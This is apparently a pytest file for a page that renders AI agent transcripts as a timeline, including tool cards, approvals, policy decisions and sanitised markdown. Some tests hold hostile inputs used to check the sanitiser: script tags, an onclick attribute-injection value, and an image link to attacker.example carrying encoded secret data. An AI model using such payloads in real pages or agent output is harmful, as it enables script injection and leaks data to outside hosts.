"""The transcript timeline built from events: pairing, merging, folding, and inputs as written."""

from datetime import UTC, datetime
from typing import Any

from tasks.core.transcript import EventRead
from tasks.http.pages.timeline import build
from tasks.http.pages.timeline_items import duration
from tasks.http.pages.tool_cards import FOLD_LINES, edit_diff, tool_fields

AT = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)


def ev(seq: int, kind: str, run: int | None = 1, **payload: Any) -> EventRead:
    return EventRead(seq=seq, kind=kind, at=AT, run=run, schema_version=1, payload=payload)


def test_a_result_goes_into_its_calls_card_and_an_orphan_stays_on_its_own() -> None:
    items = build(
        [
            ev(1, "tool_call", id="a", name="bash", input={"command": "ls -la\necho done"}),
            ev(2, "stdout", text="x\n"),
            ev(3, "tool_result", id="a", name="bash", output="exit code 2\nboom"),
            ev(4, "tool_result", id="zz", name="read_file", output="text"),
        ]
    )
    assert [i.kind for i in items] == ["tool", "output", "result"]
    call = items[0]
    assert call.hint == "ls -la" and call.result is not None and call.result.status == "exit code 2"
    assert call.result.output.text == "exit code 2\nboom"  # the output as the agent saw it
    assert call.last_seq == 3 and items[2].tool_id == "zz"


def test_outputs_and_phases_merge_only_within_one_stream_and_run() -> None:
    items = build(
        [
            ev(1, "stdout", text="a"),
            ev(2, "stdout", text="b"),
            ev(3, "stderr", text="c"),
            ev(4, "stdout", run=2, text="d"),
            ev(5, "system", run=2, phase="workspace", text="w", duration_ms=5),
            ev(6, "system", run=2, phase="sandbox", text="s", duration_ms=1500),
            ev(7, "system", run=2, phase="policy", text="p", detail={"event": "stop", "decision": "allow"}),
            ev(8, "system", run=2, phase="snapshot", text="n"),
        ]
    )
    assert [(i.kind, i.label, i.run) for i in items] == [
        ("output", "stdout", 1),
        ("output", "stderr", 1),
        ("output", "stdout", 2),
        ("phases", "", 2),
        ("policy", "", 2),
        ("phases", "", 2),
    ]
    assert items[0].output.text == "ab" and items[0].last_seq == 2
    assert [p.took for p in items[3].phases] == ["5 ms", "1.5 s"]


def test_inputs_are_shown_as_written() -> None:
    fields, hint = tool_fields({"path": "a.py", "content": 'x = "1"\n'})
    assert hint == "a.py" and [(f.label, f.text.text if f.text else None) for f in fields] == [
        ("path", "a.py"),
        ("content", 'x = "1"\n'),
    ]
    fields, hint = tool_fields({"file_path": "b.txt", "old_string": "one\ntwo\n", "new_string": "one\n2\n"})
    assert hint == "b.txt" and fields[0].label == "change to b.txt"
    assert [(d.origin, d.text) for d in fields[0].diff or []] == [
        ("@", "@@ -1,2 +1,2 @@"),
        (" ", "one"),
        ("-", "two"),
        ("+", "2"),
    ]
    raw, hint = tool_fields('{"command": broken')
    assert raw[0].text is not None and raw[0].text.text == '{"command": broken' and not raw[0].is_json
    nested, _ = tool_fields({"options": {"depth": 2}})
    assert nested[0].is_json and nested[0].text is not None and '"depth": 2' in nested[0].text.text


def test_long_text_folds_and_durations_read_well() -> None:
    [item] = build([ev(1, "stdout", text="".join(f"{i}\n" for i in range(FOLD_LINES + 1)))])
    assert item.output.long and item.output.lines == FOLD_LINES + 1
    [short] = build([ev(1, "stdout", text="one\ntwo")])
    assert not short.output.long and short.output.lines == 2
    assert [duration(x) for x in (None, 999, 2400, 185_000)] == ["", "999 ms", "2.4 s", "3 min 5 s"]
    assert edit_diff("same\n", "same\n") == []


def test_unknown_kinds_are_shown_generically_and_markdown_is_sanitised() -> None:
    items = build(
        [
            ev(1, "cache_report", model="m", input_tokens=10, request={"stream": True}),
            ev(2, "assistant", text="**b** <script>x()</script> ![](pic.png)"),
        ]
    )
    generic, said = items
    assert (
        generic.kind == "generic" and ("input_tokens", "10") in generic.facts and generic.fields[0].label == "request"
    )
    html = str(said.html)
    assert "<strong>b</strong>" in html and "<script>" not in html and 'alt=""' in html


def test_an_items_attributes_and_time_are_escaped_and_complete() -> None:
    [notice] = build([ev(7, "notice", run=None, text="hi", level='x" onclick="y')])
    attrs = str(notice.attrs("ev-notice level-" + notice.label))
    assert 'class="ti ev-notice level-x&#34; onclick=&#34;y"' in attrs  # a payload's word stays in its attribute
    assert 'id="ev-7"' in attrs and 'data-seq="7"' in attrs and 'data-last-seq="7"' in attrs
    assert 'data-run=""' in attrs and 'data-kind="notice"' in attrs
    assert (
        str(notice.when) == '<time datetime="2026-12-01T12:00:00+00:00" title="2026-12-01 12:00:00 UTC">12:00:00</time>'
    )


def test_a_message_rendered_again_is_the_same_sanitised_markup() -> None:
    first, again = build(
        [
            ev(1, "assistant", text="**once** <script>x()</script>"),
            ev(2, "assistant", text="**once** <script>x()</script>"),
        ]
    )
    assert first.html is again.html  # rendered once, reused
    assert str(first.html).startswith("<p><strong>once</strong>") and "<script>" not in str(first.html)
    long = "word " * 2000  # over the cache's size limit: rendered each time, the same way
    [big] = build([ev(3, "assistant", text=long)])
    assert big.html is not None and str(big.html).startswith("<p>word word")


def test_agent_markdown_sends_nothing_to_another_origin() -> None:
    """An agent that puts what it knows in an image address must not have the reviewer's browser
    fetch it: remote images lose their address (the alt text stays), local ones keep it."""
    from tasks.http.pages.timeline_items import agent_markdown

    html = str(agent_markdown("![leak](https://attacker.example/p.png?d=c2VjcmV0) ![ok](/static/x.png) ![p](//evil/x)"))
    assert "attacker.example" not in html and "//evil" not in html
    assert 'alt="leak"' in html and 'src="/static/x.png"' in html


def test_a_page_shows_output_up_to_its_budget_and_says_so() -> None:
    from tasks.http.pages.timeline import PAGE_OUTPUT_BYTES

    chunk = "\ufffd" * 100_000  # 300,000 bytes as the page carries it
    events = [ev(i, "stdout", text=chunk) for i in range(1, 21)]
    events.append(ev(21, "stdout", text="", omitted_bytes=1234))
    [item] = build(events)
    shown = "".join(t for _, t in item.chunks)
    assert len(shown.encode()) <= PAGE_OUTPUT_BYTES + 200
    assert shown.count("more output than a page shows") == 1
    assert len(item.chunks) == 21  # every event keeps its place (the live view counts on them)


def approval(state: str, *, run: int = 1, decided_by: str | None = None, reason: str = "") -> Any:
    from tasks.core.schemas import ApprovalRead

    return ApprovalRead(
        id="a1",
        state=state,
        tool_use_id="p1",
        tool_name="bash",
        tool_input={"command": "make"},
        input_hash="0" * 64,
        reason="a person decides",
        held=False,
        requested_by="http://127.0.0.1:9/policy",
        run=run,
        created_at=AT,
        expires_at=AT,
        decided_by=decided_by,
        decided_at=AT if decided_by else None,
        decision_reason=reason,
    )


def test_a_builtin_question_waits_then_is_answered_by_its_author() -> None:
    asked = [
        ev(1, "tool_call", id="q1", name="ask_user", input={"question": "Which name?"}),
        ev(2, "question", text="Which name?", tool_call_id="q1", options=["Ana", "Bo"]),
    ]
    [call] = build(asked, active=True)
    assert call.pause is not None and call.pause.status == "question for you" and call.pause.waiting
    assert call.pause.question == "Which name?" and call.pause.options == ["Ana", "Bo"]
    assert call.last_seq == 2 and call.result is None
    answered = build([*asked, ev(3, "prompt", run=2, text="Bo", source="answer", author="ana")], active=True)
    assert answered[0].pause is not None and answered[0].pause.status == "answered by ana"
    assert answered[0].pause.answer_seq == 3 and not answered[0].pause.waiting
    # A task that came to rest without an answer (closed, stopped): the question was never answered.
    [closed] = build(asked, active=False)
    assert closed.pause is not None and closed.pause.status == "not answered"


def test_a_claude_question_finds_the_call_that_asked_and_its_result_is_no_error() -> None:
    held = "The user doesn't want to proceed with this tool use. The tool use was rejected. STOP what you are doing."
    items = build(
        [
            ev(1, "tool_call", id="t0", name="Read", input={"file_path": "a.py"}),
            ev(2, "tool_result", id="t0", name="Read", output="x = 1"),
            ev(3, "tool_call", id="t1", name="AskUserQuestion", input={"questions": []}),
            ev(4, "tool_result", id="t1", name="AskUserQuestion", output=held, is_error=True),
            ev(5, "question", text="Which one?"),  # recorded as the run ends, naming no call
        ],
        active=True,
    )
    assert [i.kind for i in items] == ["tool", "tool"]
    read, asked = items
    assert read.pause is None and read.result is not None and not read.result.held
    assert asked.pause is not None and asked.pause.status == "question for you"
    assert asked.result is not None and asked.result.held and asked.result.is_error  # stored as it came
    # A question no call of its run asked stands on its own, still a question.
    [alone] = build([ev(1, "tool_call", run=1, id="x", name="ask_user"), ev(2, "question", run=2, text="Why?")])[1:]
    assert alone.kind == "question" and alone.pause is not None and alone.pause.question == "Why?"


def test_a_parked_call_shows_its_approval_as_it_stands() -> None:
    parked = [
        ev(1, "tool_call", id="p1", name="bash", input={"command": "make"}),
        ev(2, "tool_result", id="p1", name="bash", output="not run yet: this bash call waits", is_error=True),
    ]
    [waiting] = build(parked, [approval("pending")], active=True)
    assert waiting.pause is not None and waiting.pause.status == "waiting for your approval"
    assert waiting.pause.reason == "a person decides" and waiting.result is not None and waiting.result.held
    [denied] = build(parked, [approval("denied", decided_by="olga", reason="not today")])
    assert denied.pause is not None and (denied.pause.status, denied.pause.reason) == ("denied by olga", "not today")
    [expired] = build(parked, [approval("expired")])
    assert expired.pause is not None and expired.pause.status == "expired: nobody decided in time"
    # Approved (the builtin loop): the call's result is the approved run's, and a failure is a failure.
    ran = [parked[0], ev(3, "tool_result", run=2, id="p1", name="bash", output="exit code 2\nboom", is_error=True)]
    [approved] = build(ran, [approval("approved", decided_by="wendy", reason="fine, once")])
    assert approved.pause is not None and approved.pause.status == "approved by wendy" and approved.pause.ran
    assert approved.pause.reason == "fine, once"  # the person's reason (the policy's is in its decision)
    assert approved.result is not None and approved.result.is_error and not approved.result.held
    # The same call id in another run is another call.
    [other] = build([ev(9, "tool_call", run=3, id="p1", name="bash")], [approval("pending")])
    assert other.pause is None


def policy(seq: int, event: str, decision: str, call: str = "", run: int = 1, **detail: Any) -> EventRead:
    d = {"event": event, "decision": decision, "endpoints": [], **({"tool_use_id": call} if call else {}), **detail}
    return ev(seq, "system", run=run, phase="policy", text=f"{event}: {decision}", detail=d)


def test_a_calls_policy_decisions_go_into_its_card_before_and_after() -> None:
    items = build(
        [
            policy(1, "session_start", "allow"),
            policy(2, "pre_tool_use", "allow", "a"),  # decided before the stream showed the call
            ev(3, "tool_call", id="a", name="Bash", input={"command": "make"}),
            ev(4, "tool_result", id="a", name="Bash", output="Exit code 2\nboom", is_error=True),
            policy(5, "post_tool_use", "allow", "a"),
            ev(6, "tool_call", id="b", name="bash", input={"command": "ls"}),
            policy(7, "pre_tool_use", "deny", reason="no"),  # an older record: no call id
            ev(8, "tool_result", id="b", name="bash", output="error: blocked", is_error=True),
            policy(9, "post_tool_use", "allow"),
            policy(10, "pre_tool_use", "allow", "later"),  # its call is not among these events
        ]
    )
    assert [i.kind for i in items] == ["policy", "tool", "tool", "policy"]
    a, b = items[1], items[2]
    assert [p.seq for p in a.before] == [2] and [p.seq for p in a.after] == [5] and a.last_seq == 5
    assert a.result is not None and a.result.outcome == "exit code 2" and a.result.tone == "error"
    assert [(p.seq, p.reason) for p in b.before] == [(7, "no")] and [p.seq for p in b.after] == [9]
    assert items[3].tool_id == "later"  # the live page moves it into the card it names


def test_a_policy_ask_without_its_approval_still_reads_as_a_pause() -> None:
    [call] = build(
        [
            ev(1, "tool_call", id="p", name="bash", input={"command": "make"}),
            policy(2, "pre_tool_use", "ask", "p", reason="a person decides"),
        ],
        active=True,
    )
    assert call.pause is not None and call.pause.status == "waiting for your approval"


def test_outcomes_are_an_exit_status_ok_or_error() -> None:
    from tasks.http.pages.tool_cards import result_view

    def outcome(output: str, is_error: bool = False) -> tuple[str, str]:
        r = result_view(1, {"output": output, "is_error": is_error})
        return r.outcome, r.tone

    assert outcome("exit code 0\nfine") == ("exit code 0", "ok")
    assert outcome("exit code 1\n") == ("exit code 1", "warn")
    assert outcome("Exit code 127\nnot found", True) == ("exit code 127", "error")
    assert outcome("timed out") == ("timed out", "warn")
    assert outcome("wrote 4 bytes") == ("ok", "ok")
    assert outcome("Exit code is what it is", True) == ("error", "error")


def test_plumbing_is_one_line_without_empty_fields() -> None:
    from tasks.http.pages.timeline_items import short_name

    call = ev(1, "model_call", provider="anthropic", model="m-1", status=200, input_tokens=1200, output_tokens=80,
              latency_ms=2400, ttfb_ms=None, cost_usd=None, error="", stream=True)  # fmt: skip
    failed = ev(2, "model_call", provider="openai", model="m-2", status=502, error="upstream unreachable")
    odd = ev(3, "cache_report", hits=3, note="", evicted=None, extra={}, rows=[1])
    model, broken, generic = build([call, failed, odd])
    assert model.kind == "model" and model.text == "m-1 · 1,200 in / 80 out · 2.4 s" and model.label == ""
    assert not {"ttfb_ms", "error", "cost_usd"} & set(dict(model.facts))
    assert broken.label == "error" and broken.text.endswith("HTTP 502 · upstream unreachable")
    assert generic.facts == [("hits", "3")] and [f.label for f in generic.fields] == ["rows"]
    name = "forgehand-pool-" + "ab" * 80
    assert short_name("forgehand-run-1") == "forgehand-run-1"
    assert len(short_name(name)) < 40 and short_name(name).startswith("forgehand-pool-")
    [phases] = build([ev(4, "system", phase="sandbox", text=f"sandbox {name} started", detail={"container": name})])
    assert phases.phases[0].text == f"sandbox {short_name(name)} started" and phases.phases[0].container == name
